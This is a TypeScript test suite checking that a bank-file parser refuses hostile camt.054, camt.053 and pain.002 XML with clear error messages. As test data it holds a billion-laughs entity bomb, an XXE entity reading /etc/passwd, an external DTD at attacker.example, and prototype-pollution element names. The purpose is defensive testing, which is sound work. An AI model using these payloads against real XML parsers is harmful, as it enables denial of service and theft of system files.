import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { appErrorOf } from "@/tests/support/app-error-of";
import { readCamt053 } from "./camt053";
import { readCamt054 } from "./camt054";
import { readPain002 } from "./pain002";
import { maxBankFileBytes } from "./read-bank-xml";

const fixtures = path.resolve(import.meta.dirname, "../../tests/fixtures/banking");
const camt054 = readFileSync(path.join(fixtures, "camt054-payouts.xml"), "utf8");
const camt053 = readFileSync(path.join(fixtures, "camt053-statement.xml"), "utf8");
const pain002 = readFileSync(path.join(fixtures, "pain002-status.xml"), "utf8");

/** The AppError reading `input` as a camt.054 throws (the test fails if it is read). */
const refusal = (input: string | Uint8Array, read: (input: string | Uint8Array) => unknown = readCamt054) =>
  appErrorOf(() => read(input));

const withProlog = (prolog: string, body = camt054) =>
  body.replace('<?xml version="1.0" encoding="UTF-8"?>', `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}`);

describe("hostile bank files are refused with a clear message", () => {
  it("refuses files over the size limit, as text or bytes, before parsing", () => {
    const huge = camt054.replace("</Document>", `<!-- ${"x".repeat(maxBankFileBytes)} --></Document>`);
    for (const input of [huge, new TextEncoder().encode(huge)]) {
      const error = refusal(input);
      expect(error.code).toBe("PAYLOAD_TOO_LARGE");
      expect(error.message).toBe(
        "This file is larger than 5 MB. Ask the bank for a file per day or per account.",
      );
    }
    // Multi-byte characters count as bytes, not characters.
    expect(refusal("é".repeat(maxBankFileBytes / 2 + 1)).code).toBe("PAYLOAD_TOO_LARGE");
  });

  it("refuses empty, cut-off and malformed files", () => {
    expect(refusal("").message).toBe("This file is empty.");
    expect(refusal(camt054.slice(0, camt054.length / 2)).message).toMatch(
      /^This file is not well-formed XML \(line \d+\)/,
    );
    expect(refusal(camt054.replace("</NtryRef>", "</NtryReff>")).message).toContain("not well-formed XML");
    expect(refusal("not xml at all").message).toContain("not well-formed XML");
    expect(refusal("%PDF-1.7 binary").code).toBe("VALIDATION_FAILED");
  });

  it("refuses entity expansion (billion laughs) without expanding anything", () => {
    const laughs = `<!DOCTYPE Document [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>`;
    const file = withProlog(laughs, camt054.replace("<Ustrd>Donation</Ustrd>", "<Ustrd>&lol3;</Ustrd>"));
    const error = refusal(file);
    expect(error.code).toBe("VALIDATION_FAILED");
    expect(error.message).toBe(
      "This file contains a DOCTYPE or ENTITY declaration, which bank files never have. It was not read.",
    );
  });

  it("refuses external entities (XXE) and any DOCTYPE, however written", () => {
    const xxe = withProlog('<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(
      "<Ustrd>Donation</Ustrd>",
      "<Ustrd>&xxe;</Ustrd>",
    );
    expect(refusal(xxe).message).toContain("DOCTYPE or ENTITY declaration");
    expect(
      refusal(withProlog('<!doctype Document SYSTEM "http://attacker.example/x.dtd">')).message,
    ).toContain("DOCTYPE");
    expect(
      refusal(withProlog('<!DOCTYPE Document PUBLIC "-//X//EN" "x.dtd">'), readCamt053).message,
    ).toContain("DOCTYPE");
    // An entity used without any declaration is refused too, never passed on as text.
    expect(refusal(camt054.replace("<Ustrd>Donation</Ustrd>", "<Ustrd>&xxe;</Ustrd>")).message).toBe(
      'This file uses the undeclared entity "&xxe;".',
    );
  });

  it("decodes only the predefined entities and character references", () => {
    const file = camt054.replace("<Ustrd>Donation</Ustrd>", "<Ustrd>A &amp; B &lt;3 &#233;&#x20AC;</Ustrd>");
    const entry = readCamt054(file).notifications[0]?.entries[3];
    expect(entry?.transactions[0]?.remittanceText).toBe("A & B <3 é€");
    expect(refusal(camt054.replace("<Ustrd>Donation</Ustrd>", "<Ustrd>&#0;</Ustrd>")).message).toContain(
      "not a character",
    );
  });

  it("refuses encodings other than UTF-8, declared or actual", () => {
    const latin1 = camt054.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"');
    expect(refusal(latin1).message).toBe(
      "This file declares the encoding ISO-8859-1; Scrip reads UTF-8 bank files only.",
    );
    const bytes = Buffer.from(camt054.replace("Donation", "Spende f\u00fcr"), "latin1");
    expect(refusal(bytes).message).toBe("This file is not UTF-8 text. Download the bank file again as XML.");
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(camt054, "utf16le")]);
    expect(refusal(utf16).code).toBe("VALIDATION_FAILED");
    // A UTF-8 byte-order mark is fine.
    expect(
      readCamt054(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(camt054)])).messageId,
    ).toBe("NTF20261202-0001");
  });

  it("refuses another message, another version, or no namespace", () => {
    expect(refusal(camt053).message).toBe(
      "This file is a camt.053.001.08 message; Scrip reads a camt.054 debit/credit notification in version camt.054.001.08 here.",
    );
    expect(refusal(camt054.replace("camt.054.001.08", "camt.054.001.02")).message).toContain(
      "This file is a camt.054.001.02 message",
    );
    expect(
      refusal(camt054.replace(' xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08"', "")).message,
    ).toBe("This file is not a camt.054 debit/credit notification (camt.054.001.08).");
    expect(refusal(pain002, readCamt053).message).toContain("pain.002.001.10 message");
    expect(refusal("<?xml version='1.0'?><Other/>").message).toContain("has no ISO 20022 Document");
  });

  it("reads prefixed namespaces the same way", () => {
    const prefixed = camt054
      .replace(/<(\/?)([A-Za-z])/g, "<$1c:$2")
      .replace(' xmlns="urn:', ' xmlns:c="urn:');
    expect(readCamt054(prefixed).notifications[0]?.entries).toHaveLength(4);
  });

  it("refuses amounts in another currency", () => {
    expect(refusal(camt054.replace('<Amt Ccy="EUR">60.00</Amt>', '<Amt Ccy="USD">60.00</Amt>')).message).toBe(
      "Notification 1, entry 1 is in USD, but Scrip reads this account's files in EUR only.",
    );
    expect(refusal(camt054.replace('<Amt Ccy="EUR">20.00</Amt>', '<Amt Ccy="GBP">20.00</Amt>')).message).toBe(
      "Notification 1, entry 1, transaction 2 is in GBP, but Scrip reads this account's files in EUR only.",
    );
    expect(
      refusal(camt054.replace('<Amt Ccy="EUR">60.00</Amt>', '<Amt Ccy="ZZZ">60.00</Amt>')).message,
    ).toContain('the unknown currency "ZZZ"');
    expect(refusal(camt054.replace("<Ccy>EUR</Ccy>", "<Ccy>USD</Ccy>")).message).toContain(
      'is for an account in "USD"',
    );
    expect(appErrorOf(() => readCamt054(camt054, { currency: "USD" })).message).toBe(
      'Notification 1 is for an account in "EUR"; Scrip reads USD accounts here.',
    );
    const noAccountCurrency = camt054.replace("<Ccy>EUR</Ccy>", "");
    expect(appErrorOf(() => readCamt054(noAccountCurrency, { currency: "USD" })).message).toBe(
      "Notification 1, entry 1 is in EUR, but Scrip reads this account's files in USD only.",
    );
    expect(refusal(pain002.replace('Ccy="EUR">27.50', 'Ccy="CHF">27.50'), readPain002).message).toBe(
      "Payment block 1, transaction 3 is in CHF, but Scrip reads this account's files in EUR only.",
    );
  });

  it.each([
    ["-60.00", "is not a positive amount"],
    ["60,00", "is not a positive amount"],
    ["6e1", "is not a positive amount"],
    ["0x3C", "is not a positive amount"],
    ["60.", "is not a positive amount"],
    [".60", "is not a positive amount"],
    ["60.001", "with more decimals than EUR has"],
    ["0.00", "an amount of zero"],
    ["1234567890123456789", "is not a positive amount"],
    ["", "has no amount"],
  ])("refuses the amount %j", (amount, reason) => {
    const error = refusal(camt054.replace('<Amt Ccy="EUR">60.00</Amt>', `<Amt Ccy="EUR">${amount}</Amt>`));
    expect(error.code).toBe("VALIDATION_FAILED");
    expect(error.message).toContain("Notification 1, entry 1");
    expect(error.message).toContain(reason);
  });

  it("accepts trailing zeros beyond the currency's decimals, exactly", () => {
    const file = readCamt054(camt054.replace('<Amt Ccy="EUR">60.00</Amt>', '<Amt Ccy="EUR">60.10000</Amt>'));
    expect(file.notifications[0]?.entries[0]?.amountMinor).toBe(6010n);
  });

  it("refuses missing currencies, directions, statuses and unknown payment statuses", () => {
    expect(refusal(camt054.replace('<Amt Ccy="EUR">60.00</Amt>', "<Amt>60.00</Amt>")).message).toContain(
      "an amount without a currency",
    );
    expect(
      refusal(camt054.replace("<CdtDbtInd>DBIT</CdtDbtInd>", "<CdtDbtInd>BOTH</CdtDbtInd>")).message,
    ).toContain("neither credit (CRDT) nor debit (DBIT)");
    expect(refusal(camt054.replace("<Sts>\n          <Cd>BOOK</Cd>\n        </Sts>", "")).message).toContain(
      "has no status",
    );
    expect(refusal(pain002.replace("<TxSts>ACCP</TxSts>", "<TxSts>done!</TxSts>"), readPain002).message).toBe(
      'Payment block 1, transaction 2 has the status "done!", which is not a status code.',
    );
    // A well-formed code Scrip does not act on is read as "unknown", for review, not guessed.
    const unknown = readPain002(pain002.replace("<TxSts>ACCP</TxSts>", "<TxSts>ZZZZ</TxSts>"));
    expect(unknown.transactions[1]).toMatchObject({ status: "ZZZZ", outcome: "unknown" });
    expect(
      refusal(pain002.replace(/<OrgnlEndToEndId>[^<]*<\/OrgnlEndToEndId>/, ""), readPain002).message,
    ).toBe("Payment block 1, transaction 1 has no OrgnlEndToEndId.");
  });

  it("refuses absurd nesting and element names that could pollute prototypes", () => {
    const deep = `${"<X>".repeat(200)}${"</X>".repeat(200)}`;
    expect(refusal(camt054.replace("<Ustrd>Donation</Ustrd>", deep)).message).toBe(
      "This file could not be read as XML: it may be cut off or damaged.",
    );
    for (const name of ["__proto__", "constructor"]) {
      const polluting = camt054.replace(
        "<Ustrd>Donation</Ustrd>",
        `<${name}><polluted>yes</polluted></${name}>`,
      );
      expect(refusal(polluting).code).toBe("VALIDATION_FAILED");
    }
    expect(Object.prototype).not.toHaveProperty("polluted");
  });
});
